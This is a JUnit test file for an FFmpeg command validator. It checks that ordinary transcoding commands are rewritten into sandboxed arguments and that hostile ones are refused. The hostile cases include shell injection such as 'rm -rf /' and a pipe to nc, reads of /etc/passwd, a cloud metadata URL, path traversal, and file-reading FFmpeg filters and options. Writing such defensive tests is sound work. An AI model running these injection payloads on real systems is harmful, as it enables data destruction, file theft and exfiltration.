package dev.spool.model.ffmpeg;

import dev.spool.model.SpoolError;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class FfmpegCommandTest {
    private static final Map<String, String> ONE = Map.of("input.mp4", "https://example.com/a.mp4");
    private static final Map<String, String> TWO = Map.of("input.mp4", "https://example.com/a.mp4",
            "logo.png", "https://example.com/logo.png");
    private static final Path IN = Path.of("/sb/in/input.mp4");
    private static final Path LOGO = Path.of("/sb/in/logo.png");
    private static final Map<String, Path> PATHS = Map.of("input.mp4", IN, "logo.png", LOGO);

    @Test
    void seedExamplePasses() {
        FfmpegCommand c = FfmpegCommand.check("-i input.mp4 output.mp4", ONE, "output.mp4");
        assertEquals(List.of("-i", "input.mp4", "output.mp4"), c.tokens());
        assertEquals(java.util.Set.of("input.mp4"), c.inputNames());
        assertEquals("output.mp4", c.outputName());
        assertEquals("mp4", c.muxer());
        assertEquals(List.of("-nostdin", "-y", "-hide_banner", "-protocol_whitelist", "file", "-i", "/sb/in/input.mp4",
                "-f", "mp4", "/sb/out/output.mp4"), c.arguments(PATHS, Path.of("/sb/out/output.mp4")));
    }

    static Stream<Arguments> legitimate() {
        String pre = "-nostdin -y -hide_banner -protocol_whitelist file -i /sb/in/input.mp4";
        String logo = "-protocol_whitelist file -i /sb/in/logo.png";
        return Stream.of(
                Arguments.of("-i input.mp4 -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k output.mp4", "output.mp4",
                        pre + " -c:v libx264 -crf 23 -preset medium -c:a aac -b:a 128k -f mp4 OUT"),
                Arguments.of("-y -i input.mp4 -vf scale=1280:-2 output.mp4", "output.mp4", pre + " -vf scale=1280:-2 -f mp4 OUT"),
                Arguments.of("-i input.mp4 -i logo.png -filter_complex '[0:v][1:v]overlay=10:10[v]' -map '[v]' -map '0:a?' output.mp4",
                        "output.mp4", pre + " " + logo + " -filter_complex [0:v][1:v]overlay=10:10[v] -map [v] -map 0:a? -f mp4 OUT"),
                Arguments.of("-i input.mp4 -vf \"drawtext=text='Hello\\: world':fontsize=24:x=10:y=10\" output.mp4", "output.mp4",
                        pre + " -vf drawtext=text='Hello\\:~world':fontsize=24:x=10:y=10 -f mp4 OUT"),
                Arguments.of("-i input.mp4 -af loudnorm=I=-16:TP=-1.5:LRA=11 -c:v copy output.mp4", "output.mp4",
                        pre + " -af loudnorm=I=-16:TP=-1.5:LRA=11 -c:v copy -f mp4 OUT"),
                Arguments.of("-i input.mp4 -i logo.png -filter_complex '[0:v][0:a][1:v][1:a]concat=n=2:v=1:a=1[v][a]' -map '[v]' -map '[a]' output.mkv",
                        "output.mkv", pre + " " + logo + " -filter_complex [0:v][0:a][1:v][1:a]concat=n=2:v=1:a=1[v][a] -map [v] -map [a] -f matroska OUT"),
                Arguments.of("-ss 5 -t 3 -i input.mp4 -filter_complex 'fps=10,scale=320:-1:flags=lanczos,split[s0][s1];[s0]palettegen[p];[s1][p]paletteuse' out.gif",
                        "out.gif", "-nostdin -y -hide_banner -ss 5 -t 3 -protocol_whitelist file -i /sb/in/input.mp4 -filter_complex fps=10,scale=320:-1:flags=lanczos,split[s0][s1];[s0]palettegen[p];[s1][p]paletteuse -f gif OUT"),
                Arguments.of("-ss 00:00:10 -i input.mp4 -frames:v 1 thumb.jpg", "thumb.jpg",
                        "-nostdin -y -hide_banner -ss 00:00:10 -protocol_whitelist file -i /sb/in/input.mp4 -frames:v 1 -f image2 OUT"),
                Arguments.of("-i input.mp4 -vf thumbnail,scale=320:-1 thumb.png", "thumb.png",
                        pre + " -vf thumbnail,scale=320:-1 -frames:v 1 -f image2 OUT"),
                Arguments.of("-i input.mp4 -vn -c:a libmp3lame -b:a 192k audio.mp3", "audio.mp3", pre + " -vn -c:a libmp3lame -b:a 192k -f mp3 OUT"),
                Arguments.of("-i input.mp4 -vn -acodec copy audio.aac", "audio.aac", pre + " -vn -acodec copy -f adts OUT"),
                Arguments.of("-i input.mp4 -vn -c:a flac -ar 48000 -ac 2 audio.flac", "audio.flac", pre + " -vn -c:a flac -ar 48000 -ac 2 -f flac OUT"),
                Arguments.of("-i input.mp4 -c copy -movflags +faststart output.mp4", "output.mp4", pre + " -c copy -movflags +faststart -f mp4 OUT"),
                Arguments.of("-i input.mp4 -c:v libvpx-vp9 -b:v 2M -c:a libopus output.webm", "output.webm", pre + " -c:v libvpx-vp9 -b:v 2M -c:a libopus -f webm OUT"),
                Arguments.of("-i input.mp4 -vf 'crop=640:480:0:0,pad=800:600:(ow-iw)/2:(oh-ih)/2,setsar=1' -r 30000/1001 -pix_fmt yuv420p output.mov",
                        "output.mov", pre + " -vf crop=640:480:0:0,pad=800:600:(ow-iw)/2:(oh-ih)/2,setsar=1 -r 30000/1001 -pix_fmt yuv420p -f mov OUT"),
                Arguments.of("-i input.mp4 -ss 10 -to 20 -c copy -map 0 -metadata 'title=My clip' clip.ts", "clip.ts",
                        pre + " -ss 10 -to 20 -c copy -map 0 -metadata title=My~clip -f mpegts OUT"),
                Arguments.of("-i input.mp4 -af 'volume=0.5,afade=t=in:d=2,aresample=44100' -vn audio.wav", "audio.wav",
                        pre + " -af volume=0.5,afade=t=in:d=2,aresample=44100 -vn -f wav OUT"),
                Arguments.of("-f mp4 -i input.mp4 -threads 4 -vf transpose=1,hflip -loglevel error -c:v libx265 output.mkv", "output.mkv",
                        "-nostdin -y -hide_banner -f mp4 -protocol_whitelist file -i /sb/in/input.mp4 -threads 4 -vf transpose=1,hflip -loglevel error -c:v libx265 -f matroska OUT"));
    }

    @ParameterizedTest
    @MethodSource("legitimate")
    void legitimateCommandPasses(String command, String output, String expected) {
        FfmpegCommand c = FfmpegCommand.check(command, TWO, output);
        Path out = Path.of("/sb/out/" + output);
        // '~' stands for a space inside one argument.
        assertEquals(Stream.of(expected.replace("OUT", out.toString()).split(" ")).map(a -> a.replace('~', ' ')).toList(),
                c.arguments(PATHS, out), command);
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                // shell metacharacters
                Arguments.of("-i input.mp4 output.mp4; rm -rf /", "';'"),
                Arguments.of("-i input.mp4 output.mp4 | nc evil 1", "'|'"),
                Arguments.of("-i input.mp4 output.mp4 && id", "'&'"),
                Arguments.of("-i input.mp4 output.mp4 > /etc/passwd", "'>'"),
                Arguments.of("-i input.mp4 < /etc/passwd output.mp4", "'<'"),
                Arguments.of("-i `id` output.mp4", "'`'"),
                Arguments.of("-i $(id) output.mp4", "'$('"),
                Arguments.of("-i ${HOME} output.mp4", "'${'"),
                Arguments.of("-i input.mp4\noutput.mp4", "newline"),
                Arguments.of("-i *.mp4 output.mp4", "'*'"),
                Arguments.of("-i input.mp? output.mp4", "'?'"),
                Arguments.of("-i \"$(id)\" output.mp4", "'$'"),
                // undeclared inputs, paths, protocols
                Arguments.of("-i other.mp4 output.mp4", "'other.mp4'"),
                Arguments.of("-i /etc/passwd output.mp4", "'/etc/passwd'"),
                Arguments.of("-i ../input.mp4 output.mp4", "'../input.mp4'"),
                Arguments.of("-i http://169.254.169.254/latest output.mp4", "'http'"),
                Arguments.of("-i file:input.mp4 output.mp4", "'file'"),
                Arguments.of("-i concat:input.mp4|x output.mp4", "'|'"),
                Arguments.of("-i 'concat:input.mp4\\|x' output.mp4", "'concat'"),
                Arguments.of("-i subfile,,start,0,end,0,,:input.mp4 output.mp4", "'subfile'"),
                Arguments.of("-i data:text/plain,hi output.mp4", "'data'"),
                Arguments.of("-i pipe:0 output.mp4", "'pipe'"),
                Arguments.of("-i input.mp4 -metadata comment=http://x output.mp4", "'http'"),
                // extra outputs, wrong outputs
                Arguments.of("-i input.mp4 output.mp4 second.mp4", "'second.mp4'"),
                Arguments.of("-i input.mp4 other.mkv output.mp4", "'other.mkv'"),
                Arguments.of("-i input.mp4 /tmp/output.mp4", "'/tmp/output.mp4'"),
                Arguments.of("-i input.mp4", "no output"),
                Arguments.of("-i input.mp4 input.mp4", "'input.mp4'"),
                // muxers that write elsewhere
                Arguments.of("-i input.mp4 -f tee output.mp4", "'tee'"),
                Arguments.of("-i input.mp4 -f segment output.mp4", "'segment'"),
                Arguments.of("-i input.mp4 -f hls output.mp4", "'hls'"),
                Arguments.of("-f concat -i input.mp4 output.mp4", "'concat'"),
                Arguments.of("-f lavfi -i input.mp4 output.mp4", "'lavfi'"),
                Arguments.of("-f image2 -i input.mp4 output.mp4", "'image2'"),
                Arguments.of("-i input.mp4 -f mp4 output.mp4", "'-f'"),
                // options that read or write files
                Arguments.of("-i input.mp4 -dump_attachment:t out.ttf output.mp4", "'-dump_attachment:t'"),
                Arguments.of("-i input.mp4 -attach /etc/passwd output.mp4", "'-attach'"),
                Arguments.of("-i input.mp4 -passlogfile /tmp/x output.mp4", "'-passlogfile'"),
                Arguments.of("-i input.mp4 -fpre /etc/x.ffpreset output.mp4", "'-fpre'"),
                Arguments.of("-i input.mp4 -progress http://evil/p output.mp4", "'-progress'"),
                Arguments.of("-i input.mp4 -vstats_file /tmp/v output.mp4", "'-vstats_file'"),
                Arguments.of("-i input.mp4 -filter_script /etc/f output.mp4", "'-filter_script'"),
                Arguments.of("-i input.mp4 -filter_complex_script /etc/f output.mp4", "'-filter_complex_script'"),
                Arguments.of("-i input.mp4 -/vf /etc/f output.mp4", "'-/vf'"),
                Arguments.of("-i input.mp4 -sdp_file /tmp/s output.mp4", "'-sdp_file'"),
                Arguments.of("-report -i input.mp4 output.mp4", "'-report'"),
                Arguments.of("-protocol_whitelist file,http -i input.mp4 output.mp4", "'-protocol_whitelist'"),
                Arguments.of("-i input.mp4 -x264opts stats=/tmp/s output.mp4", "'-x264opts'"),
                // filters that read files or commands
                Arguments.of("-i input.mp4 -vf movie=/etc/passwd output.mp4", "'movie'"),
                Arguments.of("-i input.mp4 -af amovie=x.wav output.mp4", "'amovie'"),
                Arguments.of("-i input.mp4 -vf sendcmd=f=cmds.txt output.mp4", "'sendcmd'"),
                Arguments.of("-i input.mp4 -vf zmq output.mp4", "'zmq'"),
                Arguments.of("-i input.mp4 -vf drawtext=textfile=/etc/passwd output.mp4", "'textfile='"),
                Arguments.of("-i input.mp4 -vf drawtext=fontfile=/etc/passwd:text=a output.mp4", "'fontfile='"),
                Arguments.of("-i input.mp4 -vf drawtext=/etc/passwd:text=a output.mp4", "'/etc/passwd'"),
                Arguments.of("-i input.mp4 -vf subtitles=input.mp4 output.mp4", "'subtitles'"),
                Arguments.of("-i input.mp4 -vf lut3d=file=x.cube output.mp4", "'lut3d'"),
                Arguments.of("-i input.mp4 -vf frei0r=x output.mp4", "'frei0r'"),
                Arguments.of("-i input.mp4 -vf \"drawtext=text='a',movie=x\" output.mp4", "'movie'"),
                Arguments.of("-i input.mp4 -vf geq=lum=1 output.mp4", "'geq'"),
                Arguments.of("-i input.mp4 -filter_complex '[1:v]scale=10:10' output.mp4", "'[1:v]'"),
                Arguments.of("-i input.mp4 -filter_complex '[nowhere]scale=10:10' output.mp4", "'[nowhere]'"),
                Arguments.of("-i input.mp4 -vf \"drawtext=text='see http://x'\" output.mp4", "'http'"),
                // maps of undeclared inputs
                Arguments.of("-i input.mp4 -map 1:v output.mp4", "'1:v'"),
                Arguments.of("-i input.mp4 -map '[x]' output.mp4", "'[x]'"),
                // absurd values
                Arguments.of("-t 100000 -i input.mp4 output.mp4", "'100000'"),
                Arguments.of("-i input.mp4 -to 25:00:00 output.mp4", "'25:00:00'"),
                Arguments.of("-ss 99999999 -i input.mp4 output.mp4", "'99999999'"),
                Arguments.of("-i input.mp4 -threads 999 output.mp4", "'999'"),
                Arguments.of("-i input.mp4 -c:v libfoo output.mp4", "'libfoo'"),
                Arguments.of("-i input.mp4 -loglevel trace output.mp4", "'trace'"),
                Arguments.of("-i input.mp4 -movflags +evil output.mp4", "'evil'"),
                Arguments.of("-i input.mp4 -unknown 1 output.mp4", "'-unknown'"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileCommandIsRefusedNamingTheToken(String command, String named) {
        SpoolError e = assertThrows(SpoolError.class, () -> FfmpegCommand.check(command, TWO, "output.mp4"), command);
        assertEquals(SpoolError.Code.INVALID, e.code());
        assertEquals("command", e.field());
        assertTrue(e.getMessage().contains(named), () -> command + " -> " + e.getMessage());
    }

    @Test
    void imagePatternsAndPathsInNamesAreRefused() {
        SpoolError out = assertThrows(SpoolError.class, () -> FfmpegCommand.check("-i input.mp4 img%03d.png", ONE, "img%03d.png"));
        assertEquals("output_filename", out.field());
        assertTrue(out.getMessage().contains("'img%03d.png'"), out.getMessage());
        SpoolError in = assertThrows(SpoolError.class, () -> FfmpegCommand.check("-i ../a.mp4 o.mp4", Map.of("../a.mp4", "x"), "o.mp4"));
        assertEquals("input_files", in.field());
        SpoolError ext = assertThrows(SpoolError.class, () -> FfmpegCommand.check("-i input.mp4 o.m3u8", ONE, "o.m3u8"));
        assertTrue(ext.getMessage().contains("'o.m3u8'"), ext.getMessage());
    }
}
